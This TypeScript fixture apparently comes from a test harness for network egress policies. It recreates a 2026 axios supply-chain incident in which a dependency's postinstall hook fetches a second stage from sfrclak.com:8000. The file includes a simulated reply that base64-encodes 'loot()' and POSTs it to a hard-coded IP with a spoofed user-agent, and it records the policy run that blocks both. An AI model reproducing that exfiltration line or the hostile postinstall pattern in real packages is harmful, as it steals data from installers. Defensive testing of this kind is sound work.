import type { Incident } from '../../incident.ts';

const BEACON = '/6202033';
const thief = { address: '142.11.206.73', port: 8000, kind: 'http' } as const;

export const axios: Incident = {
  id: 'axios',
  date: '2026-03-31',
  name: 'axios 1.14.1, 0.30.4 (plain-crypto-js 4.2.1)',
  what: 'A new dependency’s postinstall script asked http://sfrclak.com:8000 for a second stage, which sent a beacon every 60 seconds and took orders.',
  differs:
    'One beacon. It is sent to the bare address, so that both forms are seen; the second stage is JavaScript, not Python.',
  places: [
    {
      ...{ name: 'sfrclak.com', ...thief },
      replies: {
        [`POST ${BEACON}`]: {
          body: `const { ask, loot, base64 } = require('./wire.js');
            const headers = { 'user-agent': 'mozilla/4.0 (compatible; msie 8.0; windows nt 5.1)' };
            const body = base64(loot());
            ask('POST', 'http://${thief.address}:8000/beacon', { headers, body });`,
        },
      },
    },
  ],
  packages: [
    {
      ...{ registry: 'npm', name: 'plain-crypto-js', version: '4.2.1', files: ['setup.js'] },
      scripts: { postinstall: 'node setup.js' },
    },
    {
      ...{ registry: 'npm', name: 'axios', version: '1.14.1', files: [] },
      dependencies: { 'plain-crypto-js': '^4.2.1' },
    },
  ],
  script: 'npm install axios@1.14.1',
  proof: 'node_modules/axios/package.json',
  control: {
    arrives: [`POST sfrclak.com:8000${BEACON}`, `POST ${thief.address}:8000/beacon`],
  },
  runs: [
    {
      policy: 'gitlab',
      verdict: 'stopped',
      why: 'The name is refused, and so is the bare address; `make demo` shows it step by step.',
      rows: [
        { to: 'sfrclak.com', by: 'sh > npm install > sh > node', reason: 'default' },
        { to: `${thief.address}:8000`, by: 'sh > npm install > sh > node', reason: 'default' },
      ],
    },
  ],
  sources: ['Microsoft, 2026-04-01'],
};
